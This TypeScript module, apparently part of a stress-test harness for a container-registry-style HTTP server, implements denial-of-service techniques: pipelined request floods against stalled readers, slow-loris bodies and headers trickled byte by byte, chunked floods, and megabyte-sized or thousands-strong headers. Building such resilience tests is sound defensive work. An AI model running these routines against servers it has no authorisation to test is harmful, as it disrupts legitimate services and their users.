import { RawHttp1, requestFor } from '../raw-http1.ts'
import type { RawSocket } from '../raw-socket.ts'
import { type AttackTarget, type HoldOptions, hold, type Report, repeat } from './attack.ts'

const AT_ONCE = 16
const TRICKLE_MS = 100

/** Requests that do not wait for answers. With `stalled` the first of them is for a body that nobody reads. */
export async function pipelineRequests(
  target: AttackTarget,
  options: HoldOptions & { connections?: number; requests?: number; stalled?: boolean },
): Promise<Report> {
  const { connections = 20, requests = 1000, stalled = false, signal } = options
  const clients: RawHttp1[] = []
  try {
    const { failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const client = await RawHttp1.open(target, { reads: !stalled })
      clients.push(client)
      if (stalled) await client.get(target.blob)
      // A server that does not read on leaves some of it unsent.
      void client.send(requestFor(target.manifest).repeat(requests))
    })
    await hold(options)
    return { connections: clients.length, failed, received: receivedBy(clients) }
  } finally {
    for (const { socket } of clients) socket.close()
  }
}

/** `declared`: a body that is announced and never comes; `chunked`: one byte at a time; `flood`: as fast as it is taken. */
export type Body = 'declared' | 'chunked' | 'flood'

/** Requests whose bodies do not end. */
export async function endlessBodies(
  target: AttackTarget,
  options: HoldOptions & { body: Body; connections?: number; most?: number },
): Promise<Report> {
  const { connections = 50, body, signal, most = 64 * 1024 * 1024 } = options
  const clients: RawHttp1[] = []
  const timers: NodeJS.Timeout[] = []
  const floods: Promise<void>[] = []
  const over = new AbortController()
  let left = most
  const flood = async ({ socket }: RawHttp1): Promise<void> => {
    const chunk = `4000\r\n${'x'.repeat(0x4000)}\r\n`
    while (socket.isOpen && !over.signal.aborted && left > 0) {
      left -= chunk.length
      await socket.send(chunk)
    }
  }
  try {
    const { failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const client = await RawHttp1.open(target)
      clients.push(client)
      const length = body === 'declared' ? 'Content-Length: 1000000' : 'Transfer-Encoding: chunked'
      await client.get(target.manifest, `${length}\r\n`)
      if (body === 'chunked') timers.push(setInterval(() => void client.send('1\r\nx\r\n'), TRICKLE_MS))
      if (body === 'flood') floods.push(flood(client))
    })
    await hold(options)
    return { connections: clients.length, failed, received: receivedBy(clients), sent: most - left }
  } finally {
    over.abort()
    for (const timer of timers) clearInterval(timer)
    for (const { socket } of clients) socket.close()
    await Promise.all(floods)
  }
}

/** `many`: thousands of small headers; `huge`: one; `endless`: headers that never end, a few at a time. */
export type Headers = 'many' | 'huge' | 'endless'

/** Requests with more headers than anybody needs. */
export async function largeHeaders(
  target: AttackTarget,
  options: HoldOptions & { headers: Headers; connections?: number },
): Promise<Report> {
  const { connections = 50, headers, signal } = options
  const sockets: RawSocket[] = []
  const timers: NodeJS.Timeout[] = []
  try {
    const { failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const { socket } = await RawHttp1.open(target)
      sockets.push(socket)
      if (headers === 'endless') {
        await socket.send('GET /v2/ HTTP/1.1\r\nHost: x\r\n')
        timers.push(setInterval(() => void socket.send('X-More: y\r\n'), TRICKLE_MS))
        return
      }
      const more = headers === 'many' ? 'X: y\r\n'.repeat(5000) : `X: ${'y'.repeat(1_000_000)}\r\n`
      await socket.send(requestFor('/v2/', more))
      await socket.ended
    })
    await hold(options)
    return { connections: sockets.length, failed }
  } finally {
    for (const timer of timers) clearInterval(timer)
    for (const socket of sockets) socket.close()
  }
}

function receivedBy(clients: readonly RawHttp1[]): number {
  return clients.reduce((sum, { socket }) => sum + socket.received, 0)
}
